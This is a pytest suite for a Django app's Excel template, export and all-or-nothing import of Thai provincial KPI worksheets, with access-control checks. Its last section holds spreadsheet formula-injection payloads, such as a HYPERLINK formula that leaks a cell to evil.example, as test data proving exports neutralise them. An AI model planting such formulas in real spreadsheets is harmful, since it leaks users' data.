"""Worksheet 1 to and from Excel: the template, the export and the all-or-nothing import."""

import html
import io
import re
import time
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from core.documents import excel as documents
from tests.factories import AgencyFactory, FiscalYearFactory, IssueFactory, KpiFactory
from worksheets import excel
from worksheets.models import Kpi

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER = [
    "ประเด็นยุทธศาสตร์ที่",
    "ตัวชี้วัดที่",
    "ชื่อตัวชี้วัดตามคำรับรองการปฏิบัติราชการ",
    "หน่วยนับ",
    "ค่าเป้าหมาย",
    "น้ำหนัก (ร้อยละ)",
    "ส่วนราชการที่รับผิดชอบ",
    "ส่วนราชการที่เกี่ยวข้อง",
    "หมายเหตุ",
]
NOTHING_IMPORTED = "ยังไม่มีการนำเข้าข้อมูล กรุณาแก้ไขแถวต่อไปนี้แล้วนำเข้าอีกครั้ง:"


def _workbook_bytes(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _sheet(*rows, header=HEADER) -> bytes:
    """A worksheet-1 workbook as a person would fill it in: the header row, then ``rows``."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(list(row))
    return _workbook_bytes(workbook)


def _upload(data: bytes, name: str = "kpis.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=XLSX)


def _import(client, data: bytes, name: str = "kpis.xlsx"):
    return client.post(reverse("kpi-import"), {"file": _upload(data, name)}, follow=True)


def _open(response):
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


def _rows(sheet) -> list[tuple]:
    return list(sheet.iter_rows(min_row=2, values_only=True))


def _select_year(client, year: int) -> None:
    assert client.post(reverse("year-select"), {"year": year}).status_code == 302


def _state(**filters) -> list[tuple]:
    """Every KPI as the worksheet shows it, to prove an import changed nothing."""
    return [
        (
            kpi.issue.fiscal_year.year,
            kpi.code,
            kpi.name,
            kpi.unit,
            kpi.target,
            kpi.weight,
            sorted(a.name for a in kpi.responsible_agencies.all()),
            sorted(a.name for a in kpi.involved_agencies.all()),
            kpi.remark,
        )
        for kpi in Kpi.objects.filter(**filters).order_by(
            "issue__fiscal_year__year", "issue__number", "number"
        )
    ]


@pytest.fixture
def kpi(fiscal_year, agency, other_agency):
    """KPI 1.1 of 2569, which a file may update; issue 2 exists and has no KPI yet."""
    issue = IssueFactory(fiscal_year=fiscal_year, number=1, title="การพัฒนาการเกษตรมูลค่าสูง")
    IssueFactory(fiscal_year=fiscal_year, number=2, title="การท่องเที่ยววิถีอีสาน")
    return KpiFactory(
        issue=issue,
        number=1,
        name="ร้อยละของพื้นที่เกษตรปลอดภัย",
        unit="ร้อยละ",
        target="80",
        weight=Decimal("10"),
        remark="เดิม",
        responsible=[agency],
        involved=[other_agency],
    )


# --- Template ---------------------------------------------------------------------------------


def test_it_downloads_the_template_with_the_thai_header(login, km_officer, fiscal_year):
    response = login(km_officer).get(reverse("kpi-template"))
    workbook = _open(response)
    assert 'filename="worksheet1-template-2569.xlsx"' in response["Content-Disposition"]
    sheet = workbook.worksheets[0]
    assert sheet.title == "ใบงานที่ 1 ปีงบประมาณ 2569"
    assert [cell.value for cell in sheet[1]] == HEADER
    assert _rows(sheet) == []


def test_the_template_explains_how_to_fill_it_in(login, km_officer, fiscal_year):
    workbook = _open(login(km_officer).get(reverse("kpi-template")))
    lines = [row[0] for row in workbook["วิธีกรอกข้อมูล"].iter_rows(values_only=True)]
    assert "ประเด็นยุทธศาสตร์ต้องมีอยู่แล้วในปีงบประมาณ 2569" in lines
    assert "หากมีแถวใดผิดพลาด ระบบจะไม่นำเข้าข้อมูลใดเลย และจะแจ้งแถวและคอลัมน์ที่ต้องแก้ไข" in lines


def test_the_template_lists_the_agencies_of_the_province_only(
    login, km_officer, fiscal_year, agency, other_agency, stranger
):
    workbook = _open(login(km_officer).get(reverse("kpi-template")))
    sheet = workbook["ส่วนราชการ"]
    assert [cell.value for cell in sheet[1]] == ["ชื่อส่วนราชการ", "ชื่อย่อ"]
    listed = _rows(sheet)
    assert (agency.name, "กษจ.กส.") in listed
    assert (other_agency.name, "สสจ.กส.") in listed
    assert (km_officer.agency.name, "สนจ.กส.") in listed
    assert len(listed) == 3
    assert stranger.agency.name not in str(listed)


def test_a_filled_in_template_imports(login, km_officer, kpi, agency):
    client = login(km_officer)
    workbook = _open(client.get(reverse("kpi-template")))
    workbook.worksheets[0].append([2, 1, "จำนวนนักท่องเที่ยวที่เพิ่มขึ้น", "ร้อยละ", "5", 15, agency.name, None, None])
    response = _import(client, _workbook_bytes(workbook))
    assert "นำเข้าข้อมูลเรียบร้อยแล้ว: เพิ่มตัวชี้วัดใหม่ 1 ตัว ปรับปรุง 0 ตัว" in response.content.decode()
    added = Kpi.objects.get(issue__number=2, number=1)
    assert added.name == "จำนวนนักท่องเที่ยวที่เพิ่มขึ้น"
    assert list(added.responsible_agencies.all()) == [agency]


# --- Export -----------------------------------------------------------------------------------


def test_it_exports_every_kpi_of_the_selected_year_only(login, km_officer, kpi, province, fiscal_year):
    KpiFactory(issue=kpi.issue, number=2, name="มูลค่าผลผลิตเกษตรอินทรีย์")
    KpiFactory(issue=fiscal_year.strategic_issues.get(number=2), number=1, name="รายได้จากการท่องเที่ยว")
    later = FiscalYearFactory(province=province, year=2570)
    KpiFactory(issue=IssueFactory(fiscal_year=later, number=1), number=1, name="ตัวชี้วัดของปี 2570")
    client = login(km_officer)
    _select_year(client, 2569)
    response = client.get(reverse("kpi-export"))
    workbook = _open(response)
    assert 'filename="worksheet1-kpis-2569.xlsx"' in response["Content-Disposition"]
    sheet = workbook.worksheets[0]
    assert [cell.value for cell in sheet[1]] == HEADER
    assert [row[:3] for row in _rows(sheet)] == [
        (1, 1, "ร้อยละของพื้นที่เกษตรปลอดภัย"),
        (1, 2, "มูลค่าผลผลิตเกษตรอินทรีย์"),
        (2, 1, "รายได้จากการท่องเที่ยว"),
    ]


def test_it_exports_the_year_picked_by_the_user(login, km_officer, kpi, province):
    later = FiscalYearFactory(province=province, year=2570)
    KpiFactory(issue=IssueFactory(fiscal_year=later, number=1), number=1, name="ตัวชี้วัดของปี 2570")
    client = login(km_officer)
    _select_year(client, 2570)
    rows = _rows(_open(client.get(reverse("kpi-export"))).worksheets[0])
    assert [row[:3] for row in rows] == [(1, 1, "ตัวชี้วัดของปี 2570")]


def test_it_exports_every_column(login, km_officer, kpi, agency, other_agency):
    rows = _rows(_open(login(km_officer).get(reverse("kpi-export"))).worksheets[0])
    assert rows == [
        (1, 1, "ร้อยละของพื้นที่เกษตรปลอดภัย", "ร้อยละ", "80", 10, agency.name, other_agency.name, "เดิม")
    ]


def test_it_exports_agencies_one_per_line(login, km_officer, kpi, agency, other_agency, province_office):
    kpi.responsible_agencies.set([agency, province_office])
    (row,) = _rows(_open(login(km_officer).get(reverse("kpi-export"))).worksheets[0])
    assert sorted(row[6].split("\n")) == sorted([agency.name, province_office.name])


def test_export_then_import_changes_nothing(login, km_officer, kpi, agency, other_agency, province_office):
    KpiFactory(
        issue=kpi.issue,
        number=2,
        name="จำนวนแปลงใหญ่",
        unit="แปลง",
        target="≥ 12",
        weight=Decimal("12.5"),
        remark="ข้อมูลจาก\nสำนักงานเกษตร",
        responsible=[agency, province_office],
        involved=[other_agency],
    )
    KpiFactory(issue=kpi.issue, number=3, name="ตัวชี้วัดที่ยังไม่มีผู้รับผิดชอบ", unit="", target="", weight=None)
    before = _state()
    client = login(km_officer)
    exported = client.get(reverse("kpi-export")).content
    response = _import(client, exported)
    assert "นำเข้าข้อมูลเรียบร้อยแล้ว: เพิ่มตัวชี้วัดใหม่ 0 ตัว ปรับปรุง 3 ตัว" in response.content.decode()
    assert _state() == before


def test_it_exports_a_name_starting_with_equals_as_text_not_a_formula(login, km_officer, kpi):
    kpi.name = '=HYPERLINK("https://example.org", "ร้อยละของพื้นที่เกษตรปลอดภัย")'
    kpi.save()
    client = login(km_officer)
    response = client.get(reverse("kpi-export"))
    cell = _open(response).worksheets[0]["C2"]
    assert (cell.value, cell.data_type) == (kpi.name, "s")
    before = _state()
    assert "ปรับปรุง 1 ตัว" in _import(client, response.content).content.decode()
    assert _state() == before


def test_the_export_makes_a_fixed_number_of_queries(
    login, km_officer, fiscal_year, agency, other_agency, province_office, django_assert_max_num_queries
):
    client = login(km_officer)
    issue = IssueFactory(fiscal_year=fiscal_year)
    KpiFactory(issue=issue, responsible=[agency], involved=[other_agency])
    with CaptureQueriesContext(connection) as small:
        assert client.get(reverse("kpi-export")).status_code == 200
    for _ in range(4):
        issue = IssueFactory(fiscal_year=fiscal_year)
        for _ in range(10):
            KpiFactory(issue=issue, responsible=[agency, province_office], involved=[other_agency])
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = client.get(reverse("kpi-export"))
    assert len(_rows(_open(response).worksheets[0])) == 41


# --- Import: what a good file does ------------------------------------------------------------


def test_it_shows_the_import_form(login, km_officer, fiscal_year):
    response = login(km_officer).get(reverse("kpi-import"))
    assert response.status_code == 200
    page = response.content.decode()
    assert "นำเข้าตัวชี้วัดจากไฟล์ Excel" in page
    assert "ตัวชี้วัดจะถูกนำเข้าในปีงบประมาณ 2569" in page
    assert 'enctype="multipart/form-data"' in page
    assert reverse("kpi-template") in page


def test_it_adds_new_kpis_and_updates_existing_ones(login, km_officer, kpi, agency, other_agency):
    data = _sheet(
        [
            1,
            1,
            "ร้อยละของพื้นที่เกษตรปลอดภัยที่ได้รับรองมาตรฐาน",
            "ร้อยละ",
            "85",
            20,
            other_agency.name,
            agency.name,
            "",
        ],
        [2, 1, "รายได้จากการท่องเที่ยวที่เพิ่มขึ้น", "ร้อยละ", "5", None, agency.name, None, "ใหม่"],
    )
    response = _import(login(km_officer), data)
    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
    assert "นำเข้าข้อมูลเรียบร้อยแล้ว: เพิ่มตัวชี้วัดใหม่ 1 ตัว ปรับปรุง 1 ตัว" in response.content.decode()
    assert Kpi.objects.count() == 2
    kpi.refresh_from_db()
    assert (kpi.name, kpi.target, kpi.weight, kpi.remark) == (
        "ร้อยละของพื้นที่เกษตรปลอดภัยที่ได้รับรองมาตรฐาน",
        "85",
        Decimal("20"),
        "",
    )
    assert list(kpi.responsible_agencies.all()) == [other_agency]
    assert list(kpi.involved_agencies.all()) == [agency]
    added = Kpi.objects.get(issue__number=2, number=1)
    assert (added.name, added.target, added.weight, added.remark) == (
        "รายได้จากการท่องเที่ยวที่เพิ่มขึ้น",
        "5",
        None,
        "ใหม่",
    )
    assert list(added.responsible_agencies.all()) == [agency]
    assert not added.involved_agencies.exists()


def test_it_imports_into_the_selected_year(login, km_officer, kpi, province):
    later = FiscalYearFactory(province=province, year=2570)
    IssueFactory(fiscal_year=later, number=1)
    client = login(km_officer)
    _select_year(client, 2570)
    _import(client, _sheet([1, 1, "ตัวชี้วัดของปี 2570"]))
    assert Kpi.objects.get(issue__fiscal_year=later).name == "ตัวชี้วัดของปี 2570"
    kpi.refresh_from_db()
    assert kpi.name == "ร้อยละของพื้นที่เกษตรปลอดภัย"


@pytest.mark.parametrize("separator", ["\n", ",", ";", " ; ", ",\n"])
def test_it_reads_several_agencies_in_one_cell(login, km_officer, kpi, agency, other_agency, separator):
    _import(
        login(km_officer),
        _sheet([2, 1, "ตัวชี้วัดใหม่", None, None, None, separator.join([agency.name, other_agency.name])]),
    )
    added = Kpi.objects.get(issue__number=2, number=1)
    assert set(added.responsible_agencies.all()) == {agency, other_agency}


def test_it_matches_agencies_by_short_name(login, km_officer, kpi, agency, other_agency):
    _import(login(km_officer), _sheet([2, 1, "ตัวชี้วัดใหม่", None, None, None, "กษจ.กส.", " สสจ.กส. "]))
    added = Kpi.objects.get(issue__number=2, number=1)
    assert list(added.responsible_agencies.all()) == [agency]
    assert list(added.involved_agencies.all()) == [other_agency]


@pytest.mark.parametrize(
    "weight, stored",
    [
        ("12.5", Decimal("12.5")),
        ("10%", Decimal("10")),
        (12.5, Decimal("12.5")),
        ("0", Decimal("0")),
        (None, None),
    ],
)
def test_it_reads_the_weight(login, km_officer, kpi, weight, stored):
    _import(login(km_officer), _sheet([2, 1, "ตัวชี้วัดใหม่", None, None, weight]))
    assert Kpi.objects.get(issue__number=2, number=1).weight == stored


def _with_percent_cell(column: str, value: float, number_format: str) -> bytes:
    """Excel keeps "10%" typed in a cell as 0.1 shown in a percentage format."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    sheet.append([2, 1, "ตัวชี้วัดใหม่"])
    sheet[f"{column}2"] = value
    sheet[f"{column}2"].number_format = number_format
    return _workbook_bytes(workbook)


@pytest.mark.parametrize("value, number_format, stored", [(0.1, "0%", "10"), (0.125, "0.0%", "12.5")])
def test_it_reads_a_weight_typed_as_a_percentage_in_excel(
    login, km_officer, kpi, value, number_format, stored
):
    _import(login(km_officer), _with_percent_cell("F", value, number_format))
    assert Kpi.objects.get(issue__number=2, number=1).weight == Decimal(stored)


def test_it_keeps_a_target_typed_as_a_percentage_in_excel(login, km_officer, kpi):
    _import(login(km_officer), _with_percent_cell("E", 0.8, "0%"))
    assert Kpi.objects.get(issue__number=2, number=1).target == "80%"


def test_it_reads_thai_digits_in_numbers(login, km_officer, kpi):
    _import(login(km_officer), _sheet(["๒", "๓", "ตัวชี้วัดใหม่"]))
    assert Kpi.objects.get(issue__number=2).number == 3


def test_it_skips_empty_rows(login, km_officer, kpi):
    response = _import(login(km_officer), _sheet([None] * 9, [2, 1, "ตัวชี้วัดใหม่"], ["", " ", None]))
    assert "เพิ่มตัวชี้วัดใหม่ 1 ตัว ปรับปรุง 0 ตัว" in response.content.decode()


# --- Import: what a bad file does -------------------------------------------------------------

GOOD_ROWS = (
    [1, 1, "ชื่อที่แก้ไขแล้ว", "ร้อยละ", "90", 30, "สสจ.กส.", None, "แก้ไข"],  # would update KPI 1.1
    [2, 1, "ตัวชี้วัดใหม่ที่ถูกต้อง", "ร้อยละ", "5", 10, "กษจ.กส.", None, None],  # would add KPI 2.1
)
BAD_ROWS = {
    "unknown agency": (
        [2, 2, "ตัวชี้วัด", None, None, None, "กรมที่ไม่มีอยู่จริง"],
        "แถวที่ 4 คอลัมน์ G (ส่วนราชการที่รับผิดชอบ): ไม่พบส่วนราชการชื่อ “กรมที่ไม่มีอยู่จริง” "
        "กรุณากรอกชื่อให้ตรงกับแผ่นงาน “ส่วนราชการ”",
    ),
    "agency of another province": (
        [2, 2, "ตัวชี้วัด", None, None, None, None, "สำนักงานจังหวัดขอนแก่น"],
        "แถวที่ 4 คอลัมน์ H (ส่วนราชการที่เกี่ยวข้อง): ไม่พบส่วนราชการชื่อ “สำนักงานจังหวัดขอนแก่น” "
        "กรุณากรอกชื่อให้ตรงกับแผ่นงาน “ส่วนราชการ”",
    ),
    "issue of another year": (
        [3, 1, "ตัวชี้วัด"],
        "แถวที่ 4 คอลัมน์ A (ประเด็นยุทธศาสตร์ที่): ปีงบประมาณ 2569 ไม่มีประเด็นยุทธศาสตร์ที่ 3 "
        "กรุณาตรวจสอบหมายเลข หรือเพิ่มประเด็นยุทธศาสตร์ก่อนนำเข้า",
    ),
    "no issue number": (
        [None, 2, "ตัวชี้วัด"],
        "แถวที่ 4 คอลัมน์ A (ประเด็นยุทธศาสตร์ที่): กรุณากรอกหมายเลขประเด็นยุทธศาสตร์เป็นจำนวนเต็มตั้งแต่ 1 ขึ้นไป",
    ),
    "missing name": (
        [2, 2, "  ", "ร้อยละ"],
        "แถวที่ 4 คอลัมน์ C (ชื่อตัวชี้วัดตามคำรับรองการปฏิบัติราชการ): ฟิลด์นี้จำเป็น",
    ),
    "the same KPI twice": (
        [1, 1, "ตัวชี้วัดซ้ำ"],
        "แถวที่ 4 คอลัมน์ B (ตัวชี้วัดที่): ตัวชี้วัด 1.1 ซ้ำกับแถวที่ 2 กรุณาลบแถวที่ซ้ำออก",
    ),
    "agency responsible and involved": (
        [2, 2, "ตัวชี้วัด", None, None, None, "กษจ.กส.", "สำนักงานเกษตรจังหวัดกาฬสินธุ์"],
        "แถวที่ 4 คอลัมน์ H (ส่วนราชการที่เกี่ยวข้อง): ส่วนราชการหนึ่งเป็นได้เพียงผู้รับผิดชอบหรือผู้เกี่ยวข้องอย่างใดอย่างหนึ่ง "
        "ไม่สามารถเป็นทั้งสองอย่าง กรุณาแก้ไข: สำนักงานเกษตรจังหวัดกาฬสินธุ์",
    ),
}


# The screen's KpiForm says these; asserted in English until the Thai catalogue has the new wording.
BAD_ROWS_OF_THE_FORM = {
    "weight 150": (
        [2, 2, "ตัวชี้วัด", None, None, 150],
        "Row 4, column F (Weight (%)): Enter the weight as a number from 0 to 100, with at most two decimals.",
    ),
    "weight in words": (
        [2, 2, "ตัวชี้วัด", None, None, "สิบ"],
        "Row 4, column F (Weight (%)): Enter the weight as a number from 0 to 100, with at most two decimals.",
    ),
    "weight with three decimals": (
        [2, 2, "ตัวชี้วัด", None, None, "12.345"],
        "Row 4, column F (Weight (%)): Enter the weight as a number from 0 to 100, with at most two decimals.",
    ),
    "negative weight": (
        [2, 2, "ตัวชี้วัด", None, None, -1],
        "Row 4, column F (Weight (%)): Enter the weight as a number from 0 to 100, with at most two decimals.",
    ),
    "KPI number in words": (
        [2, "สอง", "ตัวชี้วัด"],
        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
    ),
    "KPI number 2.5": (
        [2, 2.5, "ตัวชี้วัด"],
        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
    ),
    "KPI number 0": (
        [2, 0, "ตัวชี้วัด"],
        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
    ),
    "KPI number as a superscript": (
        [2, "²", "ตัวชี้วัด"],
        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
    ),
    "KPI number too large for the database": (
        [2, 40000, "ตัวชี้วัด"],
        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
    ),
    "unit too long": (
        [2, 2, "ตัวชี้วัด", "ก" * 101],
        "Row 4, column D (Unit): At most 100 characters; this has 101.",
    ),
    "name too long": (
        [2, 2, "ก" * 501],
        "Row 4, column C (KPI name under the performance agreement): At most 500 characters; this has 501.",
    ),
}


def _english(client):
    client.post(reverse("set_language"), {"language": "en", "next": reverse("worksheet1")})
    return client


def _errors(response) -> list[str]:
    """The import page's list of errors, as a person reads it."""
    found = re.search(r'<ul class="mb-0 import-errors">(.*?)</ul>', response.content.decode(), re.S)
    return [
        html.unescape(item) for item in re.findall(r"<li>(.*?)</li>", found.group(1) if found else "", re.S)
    ]


@pytest.mark.parametrize(
    "bad_row, message, english",
    [(*case, False) for case in BAD_ROWS.values()]
    + [(*case, True) for case in BAD_ROWS_OF_THE_FORM.values()],
    ids=[*BAD_ROWS, *BAD_ROWS_OF_THE_FORM],
)
def test_a_bad_row_names_row_and_column_and_imports_nothing(
    login, km_officer, kpi, province, stranger, bad_row, message, english
):
    IssueFactory(fiscal_year=FiscalYearFactory(province=province, year=2570), number=3)
    before = _state()
    client = login(km_officer)
    if english:
        _english(client)
    _select_year(client, 2569)
    response = _import(client, _sheet(*GOOD_ROWS, bad_row))
    assert response.status_code == 422
    if not english:
        assert NOTHING_IMPORTED in response.content.decode()
    assert _errors(response) == [message]
    assert _state() == before


def test_it_lists_every_bad_row_at_once(login, km_officer, kpi):
    response = _import(
        login(km_officer),
        _sheet(
            [9, 1, "ตัวชี้วัด"],
            GOOD_ROWS[0],
            [2, 1, "", None, None, 150],
        ),
    )
    assert response.status_code == 422
    page = response.content.decode()
    assert "แถวที่ 2 คอลัมน์ A (ประเด็นยุทธศาสตร์ที่)" in page
    assert "แถวที่ 4 คอลัมน์ C (ชื่อตัวชี้วัดตามคำรับรองการปฏิบัติราชการ)" in page
    assert "แถวที่ 4 คอลัมน์ F (น้ำหนัก (ร้อยละ))" in page
    assert "แถวที่ 3" not in page


def test_it_refuses_a_text_file_named_xlsx(login, km_officer, kpi):
    before = _state()
    response = _import(login(km_officer), "ประเด็น,ตัวชี้วัด\n1,1\n".encode())
    assert response.status_code == 422
    assert "ไฟล์นี้ไม่ใช่ไฟล์ Excel (.xlsx) กรุณาเลือกไฟล์ที่บันทึกในรูปแบบ .xlsx" in response.content.decode()
    assert _state() == before


def test_it_refuses_a_zip_that_is_no_workbook(login, km_officer, kpi):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    response = _import(login(km_officer), buffer.getvalue())
    assert response.status_code == 422
    assert "ไฟล์นี้ไม่ใช่ไฟล์ Excel (.xlsx)" in response.content.decode()


def test_it_refuses_a_csv_file(login, km_officer, kpi):
    before = _state()
    response = _import(login(km_officer), "1,1,ตัวชี้วัด\n".encode(), name="kpis.csv")
    assert response.redirect_chain == []
    assert "กรุณาเลือกไฟล์ Excel ที่มีนามสกุล .xlsx" in response.content.decode()
    assert _state() == before


def test_it_refuses_a_sheet_with_only_the_header(login, km_officer, kpi):
    response = _import(login(km_officer), _sheet())
    assert response.status_code == 422
    assert "ไม่พบข้อมูลตัวชี้วัดใต้แถวหัวตาราง กรุณากรอกตัวชี้วัดอย่างน้อยหนึ่งแถว" in response.content.decode()


def test_it_asks_for_a_file(login, km_officer, kpi):
    # A browser always sends the CSRF token, so the form is bound even without a file.
    response = login(km_officer).post(reverse("kpi-import"), {"csrfmiddlewaretoken": "x"})
    assert response.status_code == 200
    assert "ฟิลด์นี้จำเป็น" in response.content.decode()


# --- Access -----------------------------------------------------------------------------------


def test_an_agency_user_may_export(login, agency_user, kpi):
    rows = _rows(_open(login(agency_user).get(reverse("kpi-export"))).worksheets[0])
    assert [row[:3] for row in rows] == [(1, 1, "ร้อยละของพื้นที่เกษตรปลอดภัย")]


@pytest.mark.parametrize("name", ["kpi-template", "kpi-import"])
def test_an_agency_user_may_not_get_the_template_or_import_form(login, agency_user, kpi, name):
    assert login(agency_user).get(reverse(name)).status_code == 403


def test_an_agency_user_may_not_import(login, agency_user, kpi):
    before = _state()
    response = login(agency_user).post(reverse("kpi-import"), {"file": _upload(_sheet([1, 1, "แก้ไข"]))})
    assert response.status_code == 403
    assert _state() == before


@pytest.mark.parametrize("name", ["kpi-export", "kpi-template", "kpi-import"])
def test_anonymous_users_are_sent_to_log_in(client, kpi, name):
    response = client.get(reverse(name))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("name", ["kpi-export", "kpi-template", "kpi-import"])
def test_a_stranger_without_a_year_is_sent_back_to_worksheet_1(login, stranger, kpi, name):
    response = login(stranger).get(reverse(name))
    assert response.status_code == 302
    assert response["Location"] == reverse("worksheet1")


def test_a_stranger_cannot_pick_kalasins_year(login, stranger, kpi):
    assert login(stranger).post(reverse("year-select"), {"year": 2569}).status_code == 404


@pytest.fixture
def strangers_year(stranger):
    year = FiscalYearFactory(province=stranger.agency.province, year=2569)
    IssueFactory(fiscal_year=year, number=1)
    return year


def test_a_stranger_exports_only_their_own_province(login, stranger, kpi, strangers_year):
    KpiFactory(issue=strangers_year.strategic_issues.get(), number=1, name="ตัวชี้วัดของขอนแก่น")
    rows = _rows(_open(login(stranger).get(reverse("kpi-export"))).worksheets[0])
    assert [row[:3] for row in rows] == [(1, 1, "ตัวชี้วัดของขอนแก่น")]


def test_a_strangers_template_lists_only_their_own_agencies(login, stranger, kpi, strangers_year):
    listed = _rows(_open(login(stranger).get(reverse("kpi-template")))["ส่วนราชการ"])
    assert [row[0] for row in listed] == ["สำนักงานจังหวัดขอนแก่น"]


def test_a_stranger_cannot_name_kalasins_agencies(login, stranger, kpi, agency, strangers_year):
    response = _import(login(stranger), _sheet([1, 1, "แก้ไขโดยขอนแก่น", None, None, None, agency.name]))
    assert response.status_code == 422
    assert "ไม่พบส่วนราชการชื่อ “สำนักงานเกษตรจังหวัดกาฬสินธุ์”" in response.content.decode()


def test_a_strangers_import_goes_to_their_own_year_only(login, stranger, kpi, fiscal_year, strangers_year):
    kalasin = _state(issue__fiscal_year=fiscal_year)
    _import(login(stranger), _sheet([1, 1, "แก้ไขโดยขอนแก่น"]))
    assert _state(issue__fiscal_year=fiscal_year) == kalasin
    assert Kpi.objects.get(issue__fiscal_year=strangers_year).name == "แก้ไขโดยขอนแก่น"


def test_it_redirects_when_there_is_no_fiscal_year(login, km_officer):
    response = login(km_officer).get(reverse("kpi-export"), follow=True)
    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
    assert "ยังไม่มีปีงบประมาณในระบบ กรุณาเริ่มปีงบประมาณก่อน" in response.content.decode()


def test_a_new_agency_is_accepted_by_the_next_import(login, km_officer, kpi, province):
    AgencyFactory(province=province, name="สำนักงานพาณิชย์จังหวัดกาฬสินธุ์", short_name="พณจ.กส.")
    _import(login(km_officer), _sheet([2, 1, "ตัวชี้วัดใหม่", None, None, None, "พณจ.กส."]))
    added = Kpi.objects.get(issue__number=2, number=1)
    assert [a.short_name for a in added.responsible_agencies.all()] == ["พณจ.กส."]


# --- Spreadsheets are no way in ---------------------------------------------------------------

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A1,"เปิด")', "+66 43 811 000", "-5 %", "@SUM(A1:A9)"]


def _stored_cells(data: bytes, sheet: int) -> dict[str, tuple]:
    """Each cell of a saved workbook's sheet as the file stores it: (type, quote prefix, formula, text)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
        root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{sheet}.xml"))
    quoted = [xf.get("quotePrefix") == "1" for xf in styles.find(f"{MAIN}cellXfs")]
    return {
        c.get("r"): (
            c.get("t"),
            quoted[int(c.get("s", 0))],
            c.find(f"{MAIN}f") is not None,
            "".join(t.text or "" for t in c.iter(f"{MAIN}t")),
        )
        for c in root.iter(f"{MAIN}c")
    }


def test_the_export_writes_text_that_looks_like_a_formula_as_text(login, km_officer, kpi, other_agency):
    name, unit, target, remark = FORMULA_LIKE
    Kpi.objects.filter(pk=kpi.pk).update(name=name, unit=unit, target=target, remark=remark)
    other_agency.name = '=HYPERLINK("http://evil.example","x")'
    other_agency.save()
    data = login(km_officer).get(reverse("kpi-export")).content
    cells = _stored_cells(data, 1)
    assert not any(formula for _t, _q, formula, _text in cells.values())
    for ref, text in (("C2", name), ("D2", unit), ("E2", target), ("H2", other_agency.name), ("I2", remark)):
        assert cells[ref] == ("inlineStr", True, False, text)
    assert cells["G2"][:2] == ("inlineStr", False)  # an agency's ordinary name has no prefix
    assert cells["A2"] == ("n", False, False, "")  # numbers stay numbers
    assert [c.value for c in load_workbook(io.BytesIO(data)).worksheets[0][2]][2:5] == [name, unit, target]


def test_text_that_looks_like_a_formula_comes_back_unchanged(login, km_officer, kpi):
    name, unit, target, remark = FORMULA_LIKE
    Kpi.objects.filter(pk=kpi.pk).update(name=name, unit=unit, target=target, remark=remark)
    before = _state()
    client = login(km_officer)
    response = _import(client, client.get(reverse("kpi-export")).content)
    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
    assert _state() == before


def test_the_template_writes_an_agency_named_like_a_formula_as_text(login, km_officer, fiscal_year, province):
    hostile = AgencyFactory(province=province, name='=HYPERLINK("http://evil.example","x")', short_name="@x")
    data = login(km_officer).get(reverse("kpi-template")).content
    cells = _stored_cells(data, 3)  # the sheet "Agencies"
    assert not any(formula for _t, _q, formula, _text in cells.values())
    row = next(ref[1:] for ref, (_t, _q, _f, text) in cells.items() if text == hostile.name)
    assert cells[f"A{row}"] == ("inlineStr", True, False, hostile.name)
    assert cells[f"B{row}"] == ("inlineStr", True, False, "@x")
    sheet = load_workbook(io.BytesIO(data))["ส่วนราชการ"]
    assert sheet[f"A{row}"].data_type == "s" and sheet[f"A{row}"].value == hostile.name


@pytest.mark.parametrize(
    "column, formula, message",
    [
        ("C", '="ร้อยละ"&"ของพื้นที่"', "Row 2, column C (KPI name under the performance agreement)"),
        ("G", "=Agencies!A2", "Row 2, column G (Responsible agencies)"),
        ("F", "=10*2", "Row 2, column F (Weight (%))"),
    ],
)
def test_a_formula_cell_is_refused_by_row_and_column(login, km_officer, kpi, column, formula, message):
    """A script's workbook keeps no value beside a formula: read as values, the cell was empty."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    sheet.append([2, 1, "ตัวชี้วัดใหม่", "ร้อยละ", "5", 10, "กษจ.กส.", None, None])
    sheet[f"{column}2"] = formula
    before = _state()
    response = _import(_english(login(km_officer)), _workbook_bytes(workbook))
    assert response.status_code == 422
    assert _errors(response) == [
        f"{message}: the cell holds a formula; type its value instead (in Excel: copy, then paste values)."
    ]
    assert _state() == before


def test_moved_columns_are_named_and_nothing_is_imported(login, km_officer, kpi):
    moved = HEADER.copy()
    moved[2], moved[8] = moved[8], moved[2]  # name and remark swapped, rows written accordingly
    before = _state()
    response = _import(
        _english(login(km_officer)),
        _sheet([1, 1, "เดิม", "ร้อยละ", "90", 30, None, None, "ชื่อใหม่"], header=moved),
    )
    assert response.status_code == 422
    assert _errors(response) == [
        "Row 1, column C (KPI name under the performance agreement): this column is headed “หมายเหตุ”, "
        "which belongs in column I; put the columns back in the template's order.",
        "Row 1, column I (Remark): this column is headed “ชื่อตัวชี้วัดตามคำรับรองการปฏิบัติราชการ”, "
        "which belongs in column C; put the columns back in the template's order.",
    ]
    assert _state() == before


